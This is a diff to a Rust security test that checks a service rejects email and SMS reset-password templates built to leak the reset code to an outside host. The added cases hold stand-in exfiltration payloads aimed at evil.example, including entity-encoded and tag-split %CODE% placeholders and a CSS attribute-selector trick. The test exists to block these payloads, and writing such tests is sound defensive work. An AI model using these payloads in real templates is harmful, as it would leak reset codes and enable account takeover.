@@ -60,6 +60,22 @@ async fn sec_133_no_message_hands_its_code_to_another_host<S: Store>(app: TestAp
     ] {
         assert_eq!(word(&app, &shop, "resetPassword-EN", wrong).await.error(), (400, 602), "{wrong}");
     }
+    // A mark that is written as references, or in pieces, is none; and in the subject nothing is filled in.
+    for (id, subject, html) in [
+        ("resetPassword-EN", "Your code %CODE%", "<p>https://evil.example/&#37;CODE&#37;</p>"),
+        ("resetPassword-EN", "Hello", "<p>%CO<b></b>DE%</p>"),
+        ("sms-EN", "Hello", "https://evil.example/&#37;CODE&#37;"),
+        ("resetPassword-EN", "Hello", "<p>%APP_NAME%/%CODE%</p>"),
+        (
+            "resetPassword-EN",
+            "Hello",
+            "<style>b[title^='1'] { background: url(//evil.example/1) }</style><b title='%CODE%'>%CODE%</b>",
+        ),
+    ] {
+        let words = json!({"appId": shop.id, "_id": id, "subject": subject, "htmlTemplate": html});
+        let answer = app.admin("updateEmailTemplate", words).await;
+        assert_eq!(answer.error(), (400, 602), "{html}");
+    }
     let own = format!(
         "<p>%CODE%</p><a href=\"shop://reset?code=%CODE%\">Open the app</a><a href=\"{}/x?code=%CODE%\">x</a>",
         app.service.public_url(),
